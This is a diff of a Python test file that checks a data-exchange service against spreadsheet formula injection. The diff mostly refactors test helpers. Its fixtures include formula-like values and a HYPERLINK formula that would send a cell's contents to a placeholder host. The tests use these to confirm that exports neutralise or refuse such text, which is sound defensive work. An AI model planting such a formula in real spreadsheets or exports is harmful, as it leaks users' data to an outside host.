@@ -18,8 +18,7 @@ from domain.tables import TABLES, ColumnType
 from services.exchange.formulas import neutralise, restore
 from services.exchange.reading import read_dataset
 from services.exchange.writing import write_dataset
-from tests.factories import small_dataset as factory_dataset
-from tests.unit.exchange.conftest import full_row, small_dataset, values_of
+from tests.support.factory import add, ledger_dataset, small_dataset, values_of
 
 HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"点此")'
 ORG_HEADER = "id,name,kind,parent_id\n"
@@ -91,11 +90,10 @@ def test_ids_phones_and_ordinary_names_are_accepted(make_csv_folder) -> None:
 
 def _with_formula_like_values() -> Dataset:
     """The small dataset with ids, a phone and a name that a spreadsheet would misread."""
-    dataset = small_dataset()
-    dataset.add("units", **full_row("units", id="=SUM(A1)", name="'=引号", area_id="001"))
-    dataset.add("units", **full_row("units", id="@U9", name="合作社", area_id="001"))
-    dataset.add("people", **full_row("people", id="-P9", name="王五", home_id="001",
-                                     phone="+86 138 0000 0000"))  # fmt: skip
+    dataset = ledger_dataset()
+    add(dataset, "units", id="=SUM(A1)", name="'=引号", area_id="001")
+    add(dataset, "units", id="@U9", name="合作社", area_id="001")
+    add(dataset, "people", id="-P9", name="王五", home_id="001", phone="+86 138 0000 0000")
     return dataset
 
 
@@ -144,7 +142,7 @@ def test_exchange_workbook_keeps_formula_like_text_as_text(tmp_path: Path) -> No
 def test_a_name_stored_before_the_rule_is_refused_when_its_export_is_loaded(
     tmp_path: Path,
 ) -> None:
-    dataset = small_dataset()
+    dataset = ledger_dataset()
     dataset.rows("units")[0].values["name"] = HYPERLINK
     write_dataset(dataset, tmp_path)
     with (tmp_path / "units.csv").open(encoding="utf-8-sig") as handle:
@@ -155,7 +153,7 @@ def test_a_name_stored_before_the_rule_is_refused_when_its_export_is_loaded(
     ]
 
 
-@pytest.mark.parametrize("dataset", [small_dataset(), factory_dataset()], ids=["unit", "factory"])
+@pytest.mark.parametrize("dataset", [ledger_dataset(), small_dataset()], ids=["ledger", "small"])
 def test_the_test_datasets_hold_no_formula_like_text(dataset: Dataset) -> None:
     for table in TABLES:
         for row in dataset.rows(table.name):
